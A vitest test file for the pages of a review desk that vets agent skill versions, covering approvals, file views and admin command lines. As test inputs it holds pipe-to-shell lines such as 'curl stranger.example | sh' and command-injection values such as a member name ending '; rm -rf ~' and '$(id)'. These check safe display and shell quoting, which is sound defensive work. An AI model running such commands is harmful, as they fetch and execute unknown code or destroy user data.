import { describe, expect, it } from 'vitest';
import { approvalPage } from '../../../../registry/desk/approval-routes.ts';
import { passkeysPage, signInPage } from '../../../../registry/desk/desk-routes.ts';
import { fileHref, filePage, fileViewLinesMax } from '../../../../registry/desk/file.ts';
import { queuePage } from '../../../../registry/desk/queue.ts';
import { rulePage } from '../../../../registry/desk/rule.ts';
import { versionPage } from '../../../../registry/desk/version-page/version.ts';
import type { ReviewDetail } from '../../../../registry/review/detail.ts';
import { digestOf } from '../../../../skills-index/skill/digest.ts';
import { canonicalJson } from '../../../../skills-index/skill/text/canonical-json.ts';
import { ruleNote } from '../../../../skills-index/statement/rule-note.ts';
import {
  approval,
  detail,
  frame,
  name,
  now,
  queueItem,
  queueOf,
  someDigest,
  version,
  versionView,
} from '../story.ts';

const someRule = 'flow/secret-to-network';
const someNote = ruleNote(someRule);
if (someNote === undefined) throw new Error('the rule has a note');
const statement = approval();
const text = canonicalJson(statement);
const pages = {
  queue: String(queuePage(frame, { now, queue: queueOf([queueItem()]), decided: [] })),
  version: String(versionPage(frame, versionView())),
  quarantined: String(
    versionPage(frame, versionView({ status: 'quarantined', moves: ['in review', 'refused'] })),
  ),
  approval: String(
    approvalPage(frame, {
      statement,
      text,
      now,
      passkeyOptions: { challenge: 'c' },
      mine: true,
      keyIds: [someDigest('k')],
    }),
  ),
  rule: String(rulePage(frame, someRule, someNote)),
  'sign-in': String(
    signInPage({ ...frame, viewer: undefined }, { provider: 'id.example', next: '/review' }),
  ),
};

describe.each(Object.entries(pages))('the page %s', (_name, page) => {
  it('uses no inline style, handler or foreign address', () => {
    expect(page).not.toMatch(/ style=| on[a-z]+=|https?:\/\/(?!www\.w3)[^\s<&"]*"/);
  });
});

describe('a version', () => {
  it('lists in order what it says anew, marks what is hidden, and says how much is not shown', () => {
    const sentence = (line: number, text: string, isHidden = false) => ({
      path: 'SKILL.md',
      line,
      text,
      isHidden,
    });
    const added = [sentence(4, 'Count <b>words</b>.'), sentence(5_009, 'Send\u200b it.', true)];
    const change = { added, addedCount: 5, removed: 2, novelty: 1 / 3, isSame: false };
    const pageOf = (prose: ReviewDetail['prose']): string => {
      const page = String(versionPage(frame, versionView({ prose })));
      return page.split('<section id="prose"')[1]?.split('</section>')[0] ?? '';
    };
    const section = pageOf({ kind: 'told', since: version, change, left: 2 });
    expect(section).toContain(`Prose changed since ${version}</a></h2>`);
    expect(section).toContain(
      '5 sentences new or changed since 1.4.1, 2 sentences of 1.4.1 gone: a third of what an agent reads is new.',
    );
    expect(section).toContain('2 sentences more, which nobody compared');
    expect(section).toContain('3 further new sentences are not listed');
    const [, seen = '', hidden = ''] = section.split('<li');
    expect(seen).toMatch(/files\/SKILL\.md#L4".*line 4.*Count &lt;b&gt;words&lt;\/b&gt;\./);
    expect(seen).not.toContain('hidden');
    expect(hidden).toMatch(
      /files\/SKILL\.md\?sheet=2#L5009".*hidden from readers.*Send<span class="chip" title="U\+200B">/s,
    );
    const same = { added: [], addedCount: 0, removed: 0, novelty: 0, isSame: true };
    expect(pageOf({ kind: 'told', since: version, change: same, left: 0 })).toContain(
      'The prose is word for word that of 1.4.1.',
    );
    expect(pageOf({ kind: 'untold', since: version })).toContain('read all of it');
    expect(pageOf({ kind: 'first' })).toContain(
      'Static analysis cannot decide what words make an agent do',
    );
  });

  it('does not offer an approval to those who may not give one, and says why', () => {
    const view = versionView();
    const page = String(
      versionPage(frame, {
        ...view,
        decision: { ...view.decision, mayNotApprove: 'You published this version.' },
      }),
    );
    expect(page).toContain('You published this version.');
    expect(page).not.toContain('/approve"');
  });

  it('says at the top which files were not analysed, and why', () => {
    const view = versionView({ verdict: 'incomplete' });
    const { report } = view.detail;
    if (report === undefined) throw new Error('the story has a report');
    const file = {
      path: 'tool/<x>',
      sha256: someDigest('x'),
      bytes: 9,
      disposition: 'unanalysed',
      reason: 'not text',
    } as const;
    const read = {
      ...file,
      path: 'SKILL.md',
      disposition: 'analysed',
      reason: 'markdown',
    } as const;
    const page = (files: readonly (typeof file | typeof read)[]): string =>
      String(
        versionPage(frame, {
          ...view,
          detail: { ...view.detail, report: { ...report, coverage: { files } } },
        }),
      );
    const top = page([read, file]).split('<section')[0] ?? '';
    expect(top).toContain('<b>1 file not analysed</b>');
    expect(top).toContain('<bdi>tool/&lt;x&gt;</bdi></code> <bdi>not text</bdi>');
    expect(page([read])).not.toContain('not analysed</b>');
    expect(page(Array.from({ length: 30 }, () => file))).toContain(
      'and 20 more files: see the list of files',
    );
  });
});

describe('an approval', () => {
  it('shows the exact bytes, their digest and the line that signs exactly them', () => {
    expect(pages.approval).toContain(text.replaceAll('"', '&quot;'));
    const byKey = approval({ reviewer: { member: 'ruth', keyId: someDigest('k') } });
    const bytes = canonicalJson(byKey);
    const page = String(
      approvalPage(frame, {
        statement: byKey,
        text: bytes,
        now,
        passkeyOptions: undefined,
        mine: true,
        keyIds: [],
      }),
    );
    expect(page).toContain(
      `skillgate review approve ${name}@${version} --statement ${digestOf(bytes)}`,
    );
    expect(page).not.toContain('data-passkey');
  });

  it('shows each field of the predicate, so that nothing is signed unseen', () => {
    const p = statement.predicate;
    const seen = [
      p.name,
      p.version,
      p.bundle,
      p.capabilityDigest,
      p.scanReport,
      p.ruleSet,
      p.policy,
      p.reason,
      p.nonce,
      p.expires,
      'CRM_TOKEN as bearer',
    ];
    for (const one of seen) expect(pages.approval.split('The exact bytes')[0]).toContain(one);
  });
});

describe('a file', () => {
  const view = (bytes: Uint8Array, sheet = 1): string =>
    String(
      filePage(frame, { detail: detail(), path: 'a.bin', sha256: someDigest('x'), bytes, sheet }),
    );

  it('is shown as hexadecimal when it is no text', () => {
    expect(view(Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0, 0xff, 0xfe, 0xfd]))).toContain(
      '7f 45 4c 46 00',
    );
    expect(view(Uint8Array.from([0xff, 0xfe]))).toContain('binary');
  });

  it('is shown as text in spite of a zero or a wrong byte, which are shown', () => {
    expect(view(Buffer.from('curl x | sh\0\n'))).toContain(
      'curl x | sh<span class="chip" title="U+0000">',
    );
    expect(view(Buffer.from([...Buffer.from('curl stranger.example | sh # '), 0xff]))).toContain(
      'curl stranger.example | sh # \ufffd',
    );
  });

  it('comes in sheets when it is long, and a line’s address leads to its sheet', () => {
    const long = Buffer.from('x\n'.repeat(fileViewLinesMax + 10));
    expect(view(long)).not.toContain(`id="L${fileViewLinesMax + 1}"`);
    expect(view(long, 2)).toContain(`id="L${fileViewLinesMax + 1}"`);
    expect(fileHref(detail(), 'a b/c#.ts', fileViewLinesMax + 1)).toBe(
      `/review/@acme/weekly-report/1.4.1/files/a%20b/c%23.ts?sheet=2#L${fileViewLinesMax + 1}`,
    );
  });
});

describe('the line for an administrator', () => {
  it.each([
    ['ruth', 'skillgate member add <bdi>ruth</bdi> --passkey=-abc <span data-passkey-key="-abc">'],
    [
      'Ruth O\u0027Hara; rm -rf ~',
      'skillgate member add <bdi>&#39;Ruth O&#39;\\&#39;&#39;Hara; rm -rf ~&#39;</bdi> --passkey=-abc',
    ],
    ['$(id)', 'skillgate member add <bdi>&#39;$(id)&#39;</bdi>'],
  ])('can be pasted into a shell when the member is called %s', (member, line) => {
    const pending = [{ credentialId: '-abc', createdAt: now }];
    const view = { member, roles: ['reviewer'], now, enrolled: [], pending, creationOptions: {} };
    expect(String(passkeysPage(frame, view))).toContain(line);
  });
});

it.each([
  [
    'suspended' as const,
    [
      'skillgate review suspend @acme/weekly-report@1.4.1 --lift --reason',
      'skillgate review revoke @acme/weekly-report@1.4.1 --reason',
    ],
  ],
  ['revoked' as const, ['There is nothing to decide, because the version is revoked.']],
])('a %s version says what can be decided', (status, texts) => {
  const html = String(versionPage(frame, versionView({ status, moves: [] })));
  for (const text of texts) expect(html).toContain(text);
});
